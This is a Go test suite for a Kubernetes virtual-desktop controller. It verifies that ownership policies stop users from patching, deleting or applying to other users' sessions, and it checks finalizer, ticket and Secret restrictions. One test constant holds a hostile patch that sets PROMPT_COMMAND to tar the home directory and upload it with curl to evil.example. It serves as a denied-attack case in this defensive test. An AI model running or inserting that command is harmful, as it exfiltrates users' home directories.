package api

import (
	"context"
	"fmt"
	"os"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"

	vdi "github.com/vdi-fleet/vdi-fleet/api/v1alpha1"
	"github.com/vdi-fleet/vdi-fleet/test/harness"
)

// The users of deploy/samples/users.yaml, with the roles of the hub's chart.
var (
	aliceOfSamples = requester{"alice@example.com", nil}
	bobOfSamples   = requester{"bob@example.com", nil}
	operator       = requester{"oscar@example.com", []string{"operators"}}
	// viewer has vdi-viewer, and may patch, but is the user of no session.
	viewer = requester{"vera@example.com", nil}
	// helpdesk may impersonate alice and no one else, and patch sessions.
	helpdesk = requester{"help@example.com", nil}
	// homekeeper may update all kinds of the fleet.
	homekeeper = requester{"hugo@example.com", nil}
	// namespaceController is a controller of the control plane.
	namespaceController = requester{"system:serviceaccount:kube-system:namespace-controller", []string{"system:serviceaccounts", "system:serviceaccounts:kube-system"}}
	// hubOfRelease has the roles of the hub, in a namespace that is not vdi-system.
	hubOfRelease = requester{"system:serviceaccount:fleet:vdi-hub", []string{"system:serviceaccounts", "system:serviceaccounts:fleet"}}
)

const ownershipRoles = `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: desktops, name: viewers}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-viewer}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: vera@example.com}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: desktops, name: helpdesk}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-user}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: help@example.com}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: helpdesk}
rules: [{apiGroups: [""], resources: [users], resourceNames: [alice@example.com], verbs: [impersonate]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: helpdesk}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: helpdesk}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: help@example.com}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: updater}
rules: [{apiGroups: [vdi.kasm.io], resources: [memberclusters, vditemplates, vdihomes], verbs: [get, update]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: updaters}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: updater}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: hugo@example.com}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: hub-of-release}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-hub}
subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
`

// intoTheDesktop is a patch of a session with a command that bash runs in its desktop before
// each prompt.
const intoTheDesktop = `{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"tar cz ~ | curl -sT - https://evil.example/"}]}}`

var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func() {
	var hub *harness.ControlPlane

	BeforeAll(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		var err error
		hub, err = harness.StartControlPlane(ctx, harness.ControlPlaneOptions{
			Name: "ownership", APIOnly: true, CRDDirs: crdDirs, AdmissionDir: admissionDir,
			Namespaces: map[string]map[string]string{"desktops": nil, "vdi-system": nil},
		})
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(func() { Expect(hub.Stop()).To(Succeed()) })
		for _, file := range []string{"../../deploy/charts/vdi-hub/files/users.yaml", "../../deploy/samples/users.yaml", "../../deploy/charts/vdi-hub/files/rbac.yaml"} {
			content, err := os.ReadFile(file)
			Expect(err).NotTo(HaveOccurred())
			Expect(hub.Apply(ctx, content)).To(Succeed())
		}
		Expect(hub.Apply(ctx, []byte(ownershipRoles))).To(Succeed())
		// The API server applies roles, and each policy, a moment later.
		Eventually(ctx, func(ctx context.Context) error {
			_, err := as(hub, hubOfRelease).List(ctx, metav1.ListOptions{})
			return err
		}).Should(Succeed())
		probe := sessionFor("alice@example.com")
		probe.SetName("probe")
		create(ctx, hub, root, probe)
		for _, change := range []string{
			`{"metadata":{"labels":{"a":"b"}}}`,
			`{"metadata":{"annotations":{"vdi.kasm.io/move":"eu-west"}}}`,
			`{"metadata":{"finalizers":null}}`,
		} {
			Eventually(ctx, func(ctx context.Context) error {
				return modify(ctx, hub, bobOfSamples, "probe", change)
			}).Should(MatchError(apierrors.IsForbidden, "IsForbidden"))
		}
		Eventually(ctx, func(ctx context.Context) error {
			_, err := clientOf(hub, bobOfSamples, vdi.GroupVersion.WithResource("accesstickets")).Namespace("desktops").
				Create(ctx, build("accesstickets"), dryRun)
			return err
		}).Should(MatchError(ContainSubstring("vdi-access-ticket")))
	})

	alices := func(ctx context.Context) string {
		GinkgoHelper()
		return create(ctx, hub, aliceOfSamples, sessionFor("alice@example.com")).GetName()
	}

	It("keep a user from having a command run in another's desktop", func(ctx context.Context) {
		name := alices(ctx)
		err := modify(ctx, hub, bobOfSamples, name, intoTheDesktop)
		Expect(apierrors.IsForbidden(err)).To(BeTrue(), fmt.Sprint("denied: ", err))
		Expect(err).To(MatchError(HaveSuffix("denied request: user bob@example.com: session asked belongs to alice@example.com; to change or delete it, " +
			"you need permission to impersonate user alice@example.com, or to administer sessions in namespace desktops (verb administer on vdisessions)")))
	})

	DescribeTable("deny a change of another's session", func(ctx context.Context, change string) {
		Expect(modify(ctx, hub, bobOfSamples, alices(ctx), change)).To(MatchError(ContainSubstring("session asked belongs to alice@example.com")))
	},
		Entry("that suspends it", `{"spec":{"operatingMode":"Suspended"}}`),
		Entry("that ends it sooner", `{"spec":{"timeout":"1s"}}`),
		Entry("that labels it", `{"metadata":{"labels":{"tier":"production"}}}`),
		Entry("that has it outlive its deletion", `{"metadata":{"finalizers":["example.com/mine","vdi.kasm.io/session-cleanup"]}}`),
		Entry("that sets an owner, with which it is collected", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"1"}]}}`),
	)

	It("deny to delete another's session, by itself and among all", func(ctx context.Context) {
		name := alices(ctx)
		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{})).To(MatchError(ContainSubstring("session asked belongs to alice@example.com")))
		zero := int64(0)
		Expect(as(hub, bobOfSamples).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &zero})).To(MatchError(ContainSubstring("session asked belongs to alice@example.com")))
		// vdi-user has no deletecollection; a user who has it is checked session by session.
		Expect(as(hub, bobOfSamples).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
		Expect(hub.Apply(ctx, []byte(collector))).To(Succeed())
		Eventually(ctx, func(ctx context.Context) error {
			return as(hub, bobOfSamples).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
		}).Should(MatchError(ContainSubstring("session asked belongs to alice@example.com")))
	})

	It("deny it by server-side apply", func(ctx context.Context) {
		name := alices(ctx)
		mine := sessionFor("alice@example.com")
		mine.SetLabels(map[string]string{"tier": "production"})
		_, err := as(hub, bobOfSamples).Apply(ctx, name, mine, metav1.ApplyOptions{FieldManager: "bob", Force: true})
		Expect(err).To(MatchError(ContainSubstring("session asked belongs to alice@example.com")))
	})

	It("deny it to a user who may read everything", func(ctx context.Context) {
		Expect(modify(ctx, hub, viewer, alices(ctx), `{"spec":{"timeout":"2h"}}`)).To(MatchError(apierrors.IsForbidden, "IsForbidden"))
	})

	DescribeTable("allow a session to be changed and deleted by", func(ctx context.Context, caller requester) {
		name := alices(ctx)
		Expect(modify(ctx, hub, caller, name, `{"spec":{"operatingMode":"Suspended"}}`)).To(Succeed())
		Expect(as(hub, caller).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})).To(Succeed())
	},
		Entry("its user", aliceOfSamples),
		Entry("a user who may impersonate that user", helpdesk),
		Entry("an operator", operator),
		Entry("an administrator of the cluster", root),
	)

	It("deny it to a user who may impersonate another one", func(ctx context.Context) {
		made := create(ctx, hub, bobOfSamples, sessionFor("bob@example.com"))
		Expect(modify(ctx, hub, helpdesk, made.GetName(), `{"spec":{"timeout":"2h"}}`)).To(MatchError(ContainSubstring("session asked belongs to bob@example.com")))
	})

	It("allow the hub to work, in whatever namespace it is installed", func(ctx context.Context) {
		name := alices(ctx)
		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"annotations":{"vdi.kasm.io/move":null}}}`)).To(Succeed())
		Expect(modify(ctx, hub, hubOfRelease, name, `{"metadata":{"finalizers":null}}`)).To(Succeed())
		Expect(modify(ctx, hub, hubOfRelease, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed())
	})

	It("allow the control plane to delete what was in a namespace", func(ctx context.Context) {
		Expect(hub.Apply(ctx, []byte(controllers))).To(Succeed())
		name := alices(ctx)
		Eventually(ctx, func(ctx context.Context) error {
			return as(hub, namespaceController).Delete(ctx, name, metav1.DeleteOptions{DryRun: dryRun.DryRun})
		}).Should(Succeed())
	})

	DescribeTable("keep a session's own user from the annotation of an operator", func(ctx context.Context, annotation string) {
		name := alices(ctx)
		message := "user alice@example.com: annotation " + annotation + " requires permission to administer sessions in namespace desktops (verb administer on vdisessions)"
		set, unset := fmt.Sprintf(`{"metadata":{"annotations":{%q:"eu-west"}}}`, annotation), fmt.Sprintf(`{"metadata":{"annotations":{%q:null}}}`, annotation)
		Expect(modify(ctx, hub, aliceOfSamples, name, set)).To(MatchError(HaveSuffix("denied request: " + message)))
		annotated := sessionFor("alice@example.com")
		annotated.SetAnnotations(map[string]string{annotation: ""})
		_, err := as(hub, aliceOfSamples).Create(ctx, annotated, dryRun)
		Expect(err).To(MatchError(HaveSuffix("denied request: " + message)))
		Expect(modify(ctx, hub, operator, name, set)).To(Succeed())
		Expect(modify(ctx, hub, aliceOfSamples, name, `{"spec":{"timeout":"2h"}}`)).To(Succeed(), "what exists already is not checked again")
		Expect(modify(ctx, hub, aliceOfSamples, name, unset)).To(MatchError(HaveSuffix("denied request: " + message)))
		Expect(modify(ctx, hub, aliceOfSamples, name, `{"metadata":{"annotations":{"example.com/mine":"x"}}}`)).To(Succeed())
		Expect(modify(ctx, hub, operator, name, unset)).To(Succeed())
	},
		Entry("force-cleanup", vdi.AnnotationForceCleanup),
		Entry("move", vdi.AnnotationMove),
	)

	It("keep a user from ending a session behind the hub's back", func(ctx context.Context) {
		name := alices(ctx)
		err := modify(ctx, hub, aliceOfSamples, name, `{"metadata":{"finalizers":null}}`)
		Expect(err).To(MatchError(HaveSuffix("denied request: user alice@example.com: only the hub removes finalizer vdi.kasm.io/session-cleanup of asked, " +
			"once its members have confirmed the stop; see its status (to remove it anyway requires verb update on vdisessions/finalizers)")))
		Expect(modify(ctx, hub, operator, name, `{"metadata":{"finalizers":null}}`)).To(MatchError(ContainSubstring("only the hub removes finalizer")))
		Expect(modify(ctx, hub, aliceOfSamples, name, fmt.Sprintf(`{"metadata":{"finalizers":["example.com/mine",%q]}}`, vdi.Finalizer))).To(Succeed())
		Expect(modify(ctx, hub, aliceOfSamples, name, fmt.Sprintf(`{"metadata":{"finalizers":[%q]}}`, vdi.Finalizer))).To(Succeed(), "a user's own finalizer is the user's")
	})

	DescribeTable("allow only the hub to remove its finalizer of a", func(ctx context.Context, resource, finalizer string) {
		held := build(resource, `metadata: {name: held}`)
		held.SetFinalizers([]string{finalizer})
		as := func(caller requester) dynamic.ResourceInterface {
			all := clientOf(hub, caller, vdi.GroupVersion.WithResource(resource))
			if held.GetKind() == "VDIHome" {
				return all.Namespace("desktops")
			}
			return all
		}
		remove := func(caller requester) error {
			_, err := as(caller).Update(ctx, held, metav1.UpdateOptions{})
			return err
		}
		held, err := as(root).Create(ctx, held, metav1.CreateOptions{})
		Expect(err).NotTo(HaveOccurred())
		held.SetFinalizers(nil)
		Expect(remove(homekeeper)).To(MatchError(ContainSubstring("only the hub removes finalizer " + finalizer + " of held")))
		Expect(hub.Apply(ctx, []byte(hubUpdates))).To(Succeed())
		Eventually(func() error { return remove(hubOfRelease) }).Should(Succeed())
		Expect(as(root).Delete(ctx, "held", metav1.DeleteOptions{})).To(Succeed())
	},
		Entry("member", "memberclusters", vdi.MemberFinalizer),
		Entry("template", "vditemplates", vdi.TemplateFinalizer),
		Entry("home", "vdihomes", vdi.HomeFinalizer),
	)

	DescribeTable("let users request a login of the console for themselves only", func(ctx context.Context, caller requester, fields, denied string) {
		_, err := clientOf(hub, caller, vdi.GroupVersion.WithResource("accesstickets")).Namespace("desktops").
			Create(ctx, build("accesstickets", "spec: {"+fields+"}"), dryRun)
		if denied == "" {
			Expect(err).NotTo(HaveOccurred())
			return
		}
		Expect(err).To(MatchError(ContainSubstring(denied)))
	},
		Entry("themselves", aliceOfSamples, "user: alice@example.com", ""),
		Entry("with a group of theirs", requester{"alice@example.com", []string{"staff", "labs"}}, "user: alice@example.com, groups: [labs]", ""),
		Entry("another user", bobOfSamples, "user: alice@example.com",
			"user bob@example.com: a ticket is for the user who creates it (spec.user: bob@example.com), not for alice@example.com"),
		Entry("a user whom they may impersonate", helpdesk, "user: alice@example.com", "a ticket is for the user who creates it"),
		Entry("a group that they are not in", aliceOfSamples, "user: alice@example.com, groups: [admins]",
			"user alice@example.com: a ticket lists only your own groups; you are not in admins"),
		Entry("an administrator", root, "user: alice@example.com", "a ticket is for the user who creates it"),
	)

	It("grant the roles of people no Secrets", func(ctx context.Context) {
		for _, caller := range []requester{aliceOfSamples, viewer, operator} {
			_, err := clientOf(hub, caller, corev1.SchemeGroupVersion.WithResource("secrets")).Namespace("desktops").List(ctx, metav1.ListOptions{})
			Expect(err).To(MatchError(apierrors.IsForbidden, "IsForbidden"), caller.user)
		}
	})
})

// hubUpdates allows the hub to update by PUT what it patches, so that one request covers all
// kinds. Its permission to remove finalizers comes from the hub's chart alone.
const hubUpdates = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: hub-updates}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: updater}
subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
`

// collector allows users to delete collections, as some roles of other systems do.
const collector = `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {namespace: desktops, name: collector}
rules: [{apiGroups: [vdi.kasm.io], resources: [vdisessions], verbs: [deletecollection, list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: desktops, name: collectors}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: collector}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: bob@example.com}]
`

// controllers grants the namespace controller what kube-controller-manager's own role
// grants it.
const controllers = `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: desktops, name: namespace-controller}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:controller:namespace-controller"}
subjects: [{kind: ServiceAccount, namespace: kube-system, name: namespace-controller}]
`

// modify patches a session of namespace desktops.
func modify(ctx context.Context, hub *harness.ControlPlane, caller requester, name, change string) error {
	_, err := as(hub, caller).Patch(ctx, name, types.MergePatchType, []byte(change), metav1.PatchOptions{})
	return err
}
